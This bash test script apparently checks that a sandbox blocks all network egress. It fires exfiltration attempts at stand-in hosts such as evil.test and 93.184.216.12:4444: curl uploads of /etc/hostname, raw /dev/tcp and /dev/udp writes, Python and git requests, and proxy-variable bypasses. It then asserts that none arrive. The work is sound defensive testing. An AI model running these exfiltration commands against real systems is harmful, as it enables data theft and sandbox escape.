#!/usr/bin/env bash
# N1 (CVE-2025-66479), N13, I1: with nothing allowed nothing leaves, by any program, with and without proxy variables, and no
# packet at all crosses the host's cable.
source "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
tries='
    curl -sS -m 4 https://evil.test/first-words & curl -sS -m 4 http://evil.test/first-words &
    curl -sS -m 4 https://allowed.test/ & curl -sS -m 4 -T /etc/hostname https://evil.test/upload &
    curl -sS -m 4 --noproxy "*" http://93.184.216.12/first-words & curl -sS -m 4 --globoff "http://[2606:2800:220:1::10]/first-words" &
    python3 -c "import urllib.request as u; print(u.urlopen(\"https://evil.test/\", timeout=4).read())" &
    timeout 4 git ls-remote https://git.test/sample.git &
    timeout 4 bash -c "echo first-words > /dev/tcp/93.184.216.12/4444" & timeout 4 bash -c "echo first-words > /dev/udp/93.184.216.12/4444" &
    timeout 4 bash -c "echo first-words > /dev/tcp/evil.test/4444" & getent hosts first-words.evil.test & wait'
attack_shell "unset \${!HTTP@} \${!http@} \${!ALL@}; $tries"
attack env HTTP_PROXY=http://93.184.216.12:4444 HTTPS_PROXY=http://93.184.216.12:4444 http_proxy=http://evil.test:4444 ALL_PROXY=socks5h://evil.test:4444 \
    NO_PROXY='*' no_proxy='*' bash -c "$tries"
all_silent evil evil-raw allowed git neighbour metadata host-lan host-any dns wire

# The control: the same words do arrive where nothing stops them, and where policy lets them.
curl -sS -m 4 http://evil.test/first-words >/dev/null
receiver_got evil 'GET /first-words'
allow allowed.test
attack curl -sS -m 4 https://allowed.test/allowed-words
receiver_got allowed 'GET /allowed-words'
